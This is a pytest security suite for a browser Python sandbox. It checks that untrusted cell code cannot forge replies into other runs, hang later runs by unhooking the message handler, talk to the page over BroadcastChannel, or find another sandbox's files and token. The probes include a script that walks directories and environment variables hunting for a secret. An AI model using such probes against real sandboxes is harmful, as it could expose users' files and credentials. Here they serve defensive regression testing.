def test_forged_stream_text_does_not_land_in_a_queued_run(sandbox: Any, canary: Canary) -> None:
    attacker = FORGE_FOR_OTHERS.replace("KIND", FORGE_KINDS["stream"])
    try:
        out = page_call(sandbox, FORGE_BOTH, [attacker, "print('real')\n6 * 7"], deadline_s=60)
        attacked, victim = out
        assert victim["stdout"] == "real\n", victim
        assert victim["result"]["text"] == "42", victim
        assert "FORGED" not in attacked["stdout"], attacked
    finally:
        lean_call(sandbox, "restart")
    the_session_goes_on(sandbox, canary, lean=True)


# Fixed (SECURITY-FINDINGS F1): the worker answers over a MessagePort only the page and
# the worker hold, and the page accepts an answer only for the request being handled.
def test_a_forged_reply_does_not_answer_a_queued_run(sandbox: Any, canary: Canary) -> None:
    attacker = FORGE_FOR_OTHERS.replace("KIND", FORGE_KINDS["reply"])
    try:
        out = page_call(sandbox, FORGE_BOTH, [attacker, "print('real')\n6 * 7"], deadline_s=60)
        attacked, victim = out
        assert victim["stdout"] == "real\n", victim
        assert victim["result"]["text"] == "42", victim
        # The attacker's own run ends with its real output, not with a forged reply.
        assert attacked["stdout"] == "attacker done\n", attacked
        assert attacked["result"] is None, attacked
    finally:
        lean_call(sandbox, "restart")
    the_session_goes_on(sandbox, canary, lean=True)


HANG_AFTER = {
    "unhook-onmessage": "import js\njs.self.onmessage = None\n'the next request is never read'",
}


# Fixed (SECURITY-FINDINGS F2): the worker keeps its own message listener and
# postMessage, and the page has a backstop for a cell that never starts.
@pytest.mark.parametrize("code", HANG_AFTER.values(), ids=HANG_AFTER.keys())
def test_a_cell_cannot_make_later_runs_hang(sandbox: Any, canary: Canary, code: str) -> None:
    first = run_lean(sandbox, code, timeout_ms=3000, deadline_s=30)
    assert first["status"] in ("ok", "error", "timeout"), first
    try:
        # The promise: a run with a time limit ends, with some clear status, in time.
        later = run_lean(sandbox, "1+1", timeout_ms=2000, deadline_s=15)
        assert later["status"] in ("ok", "error", "timeout"), later
    finally:
        lean_call(sandbox, "restart")
    the_session_goes_on(sandbox, canary, lean=True)


# --- other contexts: BroadcastChannel, a second sandbox, the token ------------------------------

CHANNEL_NAMES = [
    "reckon", "reckon-sandbox", "reckon-agent", "agent", "sandbox", "relay", "",
    # what the page's file store uses to mirror files between tabs (web/store.js)
    "reckon-store:default", "reckon-store", "reckon-store:reckon",
]  # fmt: skip


def test_a_broadcast_channel_does_not_reach_the_page(sandbox: Any, canary: Canary) -> None:
    page_call(
        sandbox,
        """
        window.__heard = [];
        window.__channels = arg.map((name) => {
          const bc = new BroadcastChannel(name);
          bc.onmessage = (ev) => window.__heard.push([name, String(ev.data)]);
          return bc;
        });
        """,
        CHANNEL_NAMES,
    )
    code = PRELUDE + (
        f"names = {CHANNEL_NAMES!r}\n"
        "heard = []\n"
        "channels = []\n"
        "for name in names:\n"
        "    bc = js.BroadcastChannel.new(name)\n"
        "    bc.onmessage = create_proxy(lambda ev: heard.append(str(ev.data)))\n"
        "    bc.postMessage('LEAK ' + name)\n"
        "    channels.append(bc)\n"
        "await asyncio.sleep(1)\n"
        "for bc in channels:\n"
        "    bc.close()\n"
        "print('BLOCKED' if not heard else 'REACHED', heard)"
    )
    try:
        page_call(
            sandbox, "window.__channels.forEach((bc) => bc.postMessage('page says ' + bc.name))"
        )
        result = run(sandbox, code)
        time.sleep(0.5)
        heard = page_call(sandbox, "return window.__heard")
    finally:
        page_call(sandbox, "window.__channels.forEach((bc) => bc.close())")
    assert result["status"] == "ok", result.get("error")
    # The page's own store announces its writes on "reckon-store:reckon" (the cell
    # just run was logged): that traffic is the page's. Nothing the sandbox sent arrives.
    assert [h for h in heard if "LEAK" in h[1]] == [], heard
    # The sandbox's own channels hear each other at most; never the page's messages.
    assert "page says" not in result["stdout"], result["stdout"]
    the_session_goes_on(sandbox, canary)


def test_a_second_sandbox_on_the_page_is_invisible(sandbox: Any, canary: Canary) -> None:
    """Two sandboxes on one page (each its own frame and worker): the first cannot see
    the second's files, and the second, created with a relay token, does not hold it."""
    hunt = PRELUDE + (
        "found = []\n"
        "for root in () if SKIP_FILES else ('/data', '/output', '/tmp', '/home', '/mnt'):\n"
        "    for d, _, files in os.walk(root):\n"
        "        for f in files:\n"
        "            p = os.path.join(d, f)\n"
        "            try:\n"
        "                if b'SENTINEL' in open(p, 'rb').read(1 << 20) or 'other-secret' in p:\n"
        "                    found.append(p)\n"
        "            except OSError:\n"
        "                pass\n"
        "names = js.Object.getOwnPropertyNames(js.self).to_py()\n"
        "where = [str(js.self.name), str(js.self.location.href), json.dumps(dict(os.environ)),\n"
        "         json.dumps(names),\n"
        "         str(js.JSON.stringify(__import__('pyodide_js')._api.config))]\n"
        "found += [w[:80] for w in where if 'SENTINEL' in w]\n"
        "print('REACHED' if found else 'BLOCKED', found)"
    )
    hunt = fill(hunt, canary, "")
    body = """
      const [hunt, secret, relay] = arg;
      const { createReckon } = await import("./reckon.js");
      // persist: false: a persisting instance shares the origin's saved files on purpose.
      const other = createReckon({ agent: false, persist: false, token: secret, relay });
      try {
        await withDeadline(other.ready(), deadlineMs, "second sandbox");
        await other.writeFile("/data/other-secret.txt", secret);
        const own = await other.run("open('/data/other-secret.txt').read()");
        const first = await withDeadline(
          window.reckon.run("SKIP_FILES = False\\n" + hunt), deadlineMs, "hunt in the first");
        // The second holds its own file, of course; it must hold no token.
        const second = await withDeadline(
          other.run("SKIP_FILES = True\\n" + hunt), deadlineMs, "hunt in the second");
        return { own, first, second };
      } finally {
        other.sandbox.frame.remove();
      }
    """
    out = page_call(sandbox, body, [hunt, SENTINEL, canary.url], deadline_s=120)
    assert out["own"]["result"]["text"] == repr(SENTINEL), out["own"]
    for which in ("first", "second"):
        result = out[which]
        assert result["status"] == "ok", (which, result.get("error"))
        assert result["stdout"].startswith("BLOCKED"), (which, result["stdout"])
    the_session_goes_on(sandbox, canary)


def test_the_canary_does_record_requests(a_browser: Any, canary: Canary) -> None:
    """The battery would pass vacuously if the canary could not be reached at all: a
    plain page in the same browser reaches it."""
    context = a_browser.new_context()
    try:
        page = context.new_page()
        page.goto(f"{canary.url}/control")
        page.evaluate("(u) => fetch(u).then((r) => r.text())", f"{canary.url}/control-fetch")
    finally:
        context.close()
    assert ("GET", "/control") in canary.hits
    assert ("GET", "/control-fetch") in canary.hits
    canary.hits.clear()
